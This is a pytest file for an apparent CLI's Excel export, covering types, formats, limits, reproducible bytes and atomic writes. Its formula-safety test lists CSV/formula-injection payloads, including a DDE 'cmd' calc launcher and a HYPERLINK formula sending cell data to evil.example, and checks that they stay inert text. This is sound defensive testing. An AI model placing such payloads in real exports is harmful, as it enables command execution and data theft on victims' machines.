"""Excel outputs (io/excel.py, through write_table): values and types read back, formats, formula safety,
byte-reproducible files, the sheet's limits, atomic writes.

Files are read back with the standard library (tests/io/xlsx_read.py): what Excel would load, cell by cell."""

from __future__ import annotations

import importlib.util
import io
import os
import subprocess
import sys
import zipfile
from datetime import date, datetime, time, timedelta
from pathlib import Path
from types import ModuleType

import polars as pl
import pytest

from loyalty_cli.errors import UsageError
from loyalty_cli.io import excel, writers
from loyalty_cli.io.excel import MAX_ROWS, number_style, sheet_name, write_xlsx
from loyalty_cli.io.writers import FileSet, output_format, write_table


def _load_reader() -> ModuleType:
    # tests/ is not a package: load the reader by path (registered first: its dataclasses look themselves up).
    spec = importlib.util.spec_from_file_location("loyalty_tests_xlsx_read", Path(__file__).with_name("xlsx_read.py"))
    assert spec and spec.loader
    module = sys.modules.setdefault(spec.name, importlib.util.module_from_spec(spec))
    spec.loader.exec_module(module)
    return module


xlsx_read = _load_reader()
read_xlsx = xlsx_read.read_xlsx

TABLE = pl.DataFrame(
    {
        "customer_id": ["17850", "13047", "12583"],
        "segment": ["Champions", "At Risk", None],
        "orders": pl.Series([12, 3, 1], dtype=pl.UInt32),
        "net_spend": [1234.5, -20.254, 185.91199999999998],
        "share_customers": [0.5, 0.25, 0.125],
        "first_purchase": [date(2010, 12, 1), date(2011, 1, 4), None],
        "worth_costly_offer": [True, False, None],
        "frequency": [1.5, 2.0, 14.14937660756546],
    }
)
RISKY = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(A1:A2)",
    "\tTAB",
    "\rCR",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "http://example.com/page",
    "_x0041_ is not A",
    "ctrl \x1b[31m red",
]


def xlsx_bytes(df: pl.DataFrame, sheet: str = "data") -> bytes:
    buffer = io.BytesIO()
    write_xlsx(df, buffer, sheet=sheet)
    return buffer.getvalue()


# --- values and types ---------------------------------------------------------------------------------------


def test_values_and_types_read_back(tmp_path: Path) -> None:
    target = tmp_path / "customers.xlsx"
    assert write_table(TABLE, target) == target
    sheet = read_xlsx(target)
    assert sheet.name == "customers"
    assert sheet.header == list(TABLE.columns)
    assert sheet.values() == [
        ["17850", "Champions", 12.0, 1234.5, 0.5, date(2010, 12, 1), True, 1.5],
        ["13047", "At Risk", 3.0, -20.25, 0.25, date(2011, 1, 4), False, 2.0],
        # money rounded to cents, other decimals kept in full; missing values are empty cells
        ["12583", None, 1.0, 185.91, 0.125, None, None, 14.14937660756546],
    ]
    kinds = [c.kind if c else None for c in sheet.rows[1]]
    assert kinds == ["text", "text", "number", "number", "number", "number", "bool", "number"]
    formats = [c.number_format for c in sheet.rows[1]]
    assert formats == ["General", "General", "#,##0", "#,##0.00", "0.0%", "yyyy-mm-dd", "General", "#,##0.00##"]


def test_header_bold_frozen_and_filtered(tmp_path: Path) -> None:
    write_table(TABLE, tmp_path / "t.xlsx")
    sheet = read_xlsx(tmp_path / "t.xlsx")
    assert all(c.bold for c in sheet.rows[0])
    assert not any(c.bold for c in sheet.rows[1] if c)
    assert sheet.frozen == (1, 0)
    assert sheet.filter == "A1:H4"


def test_column_widths_fit_header_and_values() -> None:
    df = pl.DataFrame(
        {
            "id": ["a"],  # short header and value: the minimum width
            "comment": ["x" * 200],  # long text: capped
            "net_spend": [1234567.891],  # shown as 1,234,567.89: 12 characters
            "a_rather_long_header_name": [1],
        }
    )
    widths = read_xlsx(xlsx_bytes(df)).widths
    # XlsxWriter stores the width plus its padding (0.71), rounded to whole pixels (1/7 of a character)
    assert widths[0] == pytest.approx(8 + 0.71, abs=0.1)
    assert widths[1] == pytest.approx(60 + 0.71, abs=0.1)
    assert widths[2] == pytest.approx(14 + 0.71, abs=0.1)  # 12 characters + 2
    assert widths[3] == pytest.approx(25 * 1.1 + 3 + 0.71, abs=0.1)  # header + filter button


def test_fmt_xlsx_wins_over_the_suffix(tmp_path: Path) -> None:
    target = tmp_path / "export.dat"
    write_table(TABLE, target, fmt="xlsx")
    assert target.read_bytes().startswith(b"PK\x03\x04")
    assert read_xlsx(target).name == "export"
    assert output_format("a.XLSX") == "xlsx"
    assert output_format("-", "xlsx") == "xlsx"


def test_stdout_gets_the_workbook(capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    assert write_table(TABLE, "-", fmt="xlsx") is None
    out = capsysbinary.readouterr().out
    sheet = read_xlsx(out)
    assert sheet.name == "data"
    assert sheet.values()[0][0] == "17850"


def test_empty_table_is_a_header_row() -> None:
    df = pl.DataFrame(schema={"customer_id": pl.String, "net_spend": pl.Float64})
    sheet = read_xlsx(xlsx_bytes(df))
    assert sheet.header == ["customer_id", "net_spend"]
    assert sheet.values() == []
    assert sheet.filter == "A1:B1"


def test_other_types() -> None:
    berlin = pl.Series([datetime(2024, 1, 2, 3, 4, 5)] * 2).dt.replace_time_zone("UTC")
    df = pl.DataFrame(
        {
            "tags": [["vip", "=cmd"], None],
            "at": [datetime(2024, 1, 2, 3, 4, 5), None],
            "at_berlin": berlin.dt.convert_time_zone("Europe/Berlin"),  # the wall time there: 04:04:05
            "old": [date(1899, 1, 1), date(2020, 1, 1)],  # Excel has no dates before 1 March 1900: ISO text
            "big_id": [1234567890123456789, 7],  # 19 digits would lose digits as a number: text
            "small_id": [123456789012345, 7],  # 15 digits: still a number
            "ratio": [float("nan"), float("inf")],
            "gap": [timedelta(days=1, hours=2), timedelta(minutes=30)],
            "at_time": [time(12, 30), time(0, 0, 1)],
            "kind": pl.Series(["a", "b"], dtype=pl.Categorical),
            "nothing": [None, None],
        }
    )
    sheet = read_xlsx(xlsx_bytes(df))
    assert sheet.values() == [
        [
            "vip; =cmd",
            datetime(2024, 1, 2, 3, 4, 5),
            datetime(2024, 1, 2, 4, 4, 5),
            "1899-01-01",
            "1234567890123456789",
            123456789012345.0,
            "NaN",
            timedelta(days=1, hours=2),
            timedelta(hours=12, minutes=30),
            "a",
            None,
        ],
        [
            None,
            None,
            datetime(2024, 1, 2, 4, 4, 5),
            "2020-01-01",
            "7",
            7.0,
            "inf",
            timedelta(minutes=30),
            timedelta(seconds=1),
            "b",
            None,
        ],
    ]
    assert sheet.formulas == 0  # NaN and infinity as text, not as error formulas
    formats = {name: sheet.column(name)[0].number_format for name in ("at", "small_id", "gap", "at_time")}
    assert formats == {"at": "yyyy-mm-dd hh:mm:ss", "small_id": "0", "gap": "[h]:mm:ss", "at_time": "hh:mm:ss"}


@pytest.mark.parametrize(
    ("name", "dtype", "style"),
    [
        ("customer_id", pl.Int64, "id"),
        ("orders", pl.UInt32, "integer"),
        ("share_promoters", pl.Float64, "percent"),
        ("churn_rate", pl.Float64, "percent"),
        ("retention_within", pl.Float64, "percent"),
        ("revenue_retention", pl.Float64, "percent"),
        ("treatment_repurchase_rate", pl.Float64, "percent"),
        ("p_alive", pl.Float64, "percent"),
        ("repurchase_lift", pl.Float64, "percent"),
        ("net_spend", pl.Float64, "money"),
        ("mean_order_value", pl.Float64, "money"),
        ("predicted_clv_12m", pl.Float64, "money"),
        ("cumulative_revenue_per_customer", pl.Float64, "money"),
        ("revenue_diff_low", pl.Float64, "money"),
        ("revenue_p_value", pl.Float64, "general"),
        ("nps_weighted_by_net_spend", pl.Float64, "decimal"),
        ("value", pl.Float64, "decimal"),  # the programme's long table: figures of every kind
        ("nps", pl.Float64, "decimal"),
        ("ipt_days", pl.Float64, "decimal"),
    ],
)
def test_number_style(name: str, dtype: pl.DataType, style: str) -> None:
    assert number_style(name, dtype) == style


@pytest.mark.parametrize(
    ("stem", "name"),
    [
        ("segments", "segments"),
        ("a[1]:b/c\\d?*", "a_1__b_c_d__"),
        ("'quoted'", "quoted"),
        ("x" * 40, "x" * 31),
        ("History", "Sheet1"),
        ("", "Sheet1"),
    ],
)
def test_sheet_name(stem: str, name: str) -> None:
    assert sheet_name(stem) == name


# --- formula safety -----------------------------------------------------------------------------------------


def test_formula_like_text_is_text_never_a_formula() -> None:
    df = pl.DataFrame({"customer_id": [str(i) for i in range(len(RISKY))], "=comment": RISKY})
    data = xlsx_bytes(df)
    sheet = read_xlsx(data)
    assert sheet.header == ["customer_id", "=comment"]
    assert [c.value for c in sheet.column("=comment")] == RISKY  # as it was: no apostrophe, nothing lost
    assert {c.kind for c in sheet.column("=comment")} == {"text"}
    assert sheet.formulas == 0
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        names = z.namelist()
        xml = z.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml
    assert not [n for n in names if "_rels/sheet" in n]  # no hyperlinks (they would need relationships)
    assert b"<hyperlink" not in xml


def test_the_workbook_never_turns_text_into_formulas(monkeypatch: pytest.MonkeyPatch) -> None:
    """The options that keep text as text, as XlsxWriter gets them."""
    import xlsxwriter

    seen = {}
    original = xlsxwriter.Workbook.__init__

    def spy(self, filename=None, options=None):
        seen.update(options or {})
        original(self, filename, options)

    monkeypatch.setattr(xlsxwriter.Workbook, "__init__", spy)
    xlsx_bytes(TABLE)
    assert seen["strings_to_formulas"] is False
    assert seen["strings_to_urls"] is False
    assert seen["strings_to_numbers"] is False


# --- reproducible bytes -------------------------------------------------------------------------------------

SCRIPT = """
import sys
import polars as pl
from datetime import date
from loyalty_cli.io.writers import write_table
df = pl.DataFrame({"customer_id": ["a", "b"], "net_spend": [1.5, 2.25], "first_purchase": [date(2024, 1, 1), None]})
write_table(df, sys.argv[1])
"""


def test_same_table_same_bytes(tmp_path: Path) -> None:
    """The creation time in docProps/core.xml is fixed, and nothing else depends on the clock, the time zone or
    the umask: a run elsewhere, later, gives the same bytes."""
    first, second = tmp_path / "a" / "out.xlsx", tmp_path / "b" / "out.xlsx"
    env = {**os.environ, "TZ": "Asia/Tokyo"}
    subprocess.run([sys.executable, "-c", SCRIPT, str(first)], check=True, env=env)
    env = {**os.environ, "TZ": "America/New_York"}
    subprocess.run([sys.executable, "-c", f"import os; os.umask(0o077)\n{SCRIPT}", str(second)], check=True, env=env)
    assert first.read_bytes() == second.read_bytes()
    with zipfile.ZipFile(first) as z:
        core = z.read("docProps/core.xml").decode()
        stamps = {info.date_time for info in z.infolist()}
    assert '<dcterms:created xsi:type="dcterms:W3CDTF">1980-01-01T00:00:00Z</dcterms:created>' in core
    assert '<dcterms:modified xsi:type="dcterms:W3CDTF">1980-01-01T00:00:00Z</dcterms:modified>' in core
    assert len(stamps) == 1 and next(iter(stamps))[0] == 1980


# --- limits -------------------------------------------------------------------------------------------------


def test_too_many_rows_is_a_clear_error_and_writes_nothing(tmp_path: Path) -> None:
    df = pl.select(customer_id=pl.int_range(MAX_ROWS))  # 1,048,576 rows: one more than fit under the header
    target = tmp_path / "big.xlsx"
    target.write_bytes(b"old")
    with pytest.raises(UsageError, match=r"1,048,576 rows do not fit in an Excel sheet: it holds 1,048,575 rows"):
        write_table(df, target)
    assert target.read_bytes() == b"old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["big.xlsx"]  # no temporary file left


def test_the_last_row_that_fits(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(excel, "MAX_ROWS", 4)  # a sheet of 4 rows: the header and 3
    assert len(read_xlsx(xlsx_bytes(TABLE)).values()) == 3
    with pytest.raises(UsageError, match="4 rows do not fit"):
        xlsx_bytes(pl.concat([TABLE, TABLE.head(1)]))


def test_too_many_columns() -> None:
    df = pl.DataFrame({f"c{i}": [1] for i in range(excel.MAX_COLUMNS + 1)})
    with pytest.raises(UsageError, match="16,385 columns do not fit in an Excel sheet"):
        xlsx_bytes(df)


def test_text_longer_than_a_cell() -> None:
    df = pl.DataFrame({"comment": ["short", "y" * (excel.MAX_TEXT + 1)]})
    with pytest.raises(UsageError, match="Column 'comment' has text of 32,768 characters"):
        xlsx_bytes(df)
    assert read_xlsx(xlsx_bytes(df.head(1))).values() == [["short"]]


# --- atomic -------------------------------------------------------------------------------------------------


def test_a_failed_write_leaves_the_old_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "t.xlsx"
    write_table(TABLE, target)
    before = target.read_bytes()

    def broken(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(excel, "_workbook", broken)
    with pytest.raises(Exception, match="t.xlsx"):
        write_table(TABLE.head(1), target)
    assert target.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t.xlsx"]


def test_a_file_set_writes_xlsx_with_the_others(tmp_path: Path) -> None:
    with FileSet() as files:
        done = files.add_table(tmp_path / "list.xlsx", TABLE)
        files.add_table(tmp_path / "list.csv", TABLE)
        files.commit()
    data = (tmp_path / "list.xlsx").read_bytes()
    assert done.bytes == len(data)
    assert read_xlsx(data).name == "list"
    assert writers.output_format(tmp_path / "list.xlsx") == "xlsx"
